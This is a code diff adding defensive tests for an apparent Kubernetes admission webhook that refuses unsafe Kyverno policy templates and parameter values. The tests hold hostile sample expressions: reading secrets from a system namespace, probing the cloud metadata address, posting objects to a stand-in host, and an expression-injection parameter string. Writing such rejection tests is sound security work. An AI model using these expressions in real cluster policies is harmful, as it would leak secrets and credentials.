@@ -748,6 +748,56 @@ t.test('nobody approves too late, or what the profile no longer allows', async t
   t.pass('both refused')
 })
 
+t.test('no template has Kyverno use its rights', async t => {
+  const owned = (await client.get(PolicyTemplate, 'owned', namespace))!
+  const body = owned.spec.kyverno
+  const field = 'spec.kyverno.spec.validations[0].expression'
+  for (const expression of [
+    'resource.Get("v1", "secrets", "kradle-system", "x").data != null',
+    'resource.List("v1", "secrets", "kradle-system").items.size() > 0',
+    'http.Get("http://169.254.169.254/").ok',
+    'http.Post("https://mine.example.com", object).ok',
+    'globalContext.Get("all", "") != null',
+    'image("x").registry() == "x"',
+  ]) {
+    const spec = { ...(body.spec as object), validations: [{ expression, message: 'no' }] }
+    const own = { ...owned.spec, kyverno: { ...body, spec } }
+    for (const who of [tina, maria, admin])
+      refused(
+        t,
+        await who.dryRun(PolicyTemplate, objectOf(PolicyTemplate, 'own', { spec: own })),
+        expression,
+        `${field}: `,
+        'R203',
+      )
+    const says = await dry(tina, 'PATCH', PolicyTemplate, 'owned', { spec: own })
+    refused(t, says, `${expression}, later`, `${field}: `, 'R203')
+  }
+})
+
+t.test('no parameter becomes a part of an expression', async t => {
+  const parameters = [{ name: 'least', type: 'integer', minimum: 1, default: 3 }]
+  const { spec } = (await client.get(PolicyTemplate, 'owned', namespace))!
+  await create(PolicyTemplate, 'sized', { ...spec, parameters })
+  const bind = (values: object) =>
+    tina.dryRun(
+      PolicyBinding,
+      objectOf(PolicyBinding, 'own', {
+        spec: { templateRef: 'sized', mode: 'enforce', parameters: values },
+      }),
+    )
+  await until('the webhook knows the template', async () => (await bind({ least: 4 })) === '')
+  for (const value of ['1) || true || (1', '1', [1], { a: 1 }, true, 1.5, -1])
+    refused(
+      t,
+      await bind({ least: value }),
+      JSON.stringify(value),
+      `spec.parameters.least: ${JSON.stringify(value)}`,
+      'R205',
+    )
+  refused(t, await bind({ most: 1 }), 'one that is not declared', 'spec.parameters.most: 1', 'R205')
+})
+
 t.test('no request and no binding goes by a lifetime', async t => {
   const ttl = { metadata: { labels: { 'cleanup.kyverno.io/ttl': '1s' } } }
   for (const [kind, name] of [
@@ -848,6 +898,8 @@ interface Judged extends KubernetesObject {
 }
 
 t.test('and Kyverno goes about its work', async t => {
+  const fine = objectOf(ConfigMap, 'owned-fine', { data: { owner: 'tina' } })
+  done(await write(tina, ConfigMap, fine), 'what the policy wants')
   await until('it says of the policy that it is ready', async () => {
     const found: Judged | undefined = await client.get(Validating, POLICY, namespace)
     return found?.status?.conditionStatus?.ready === true
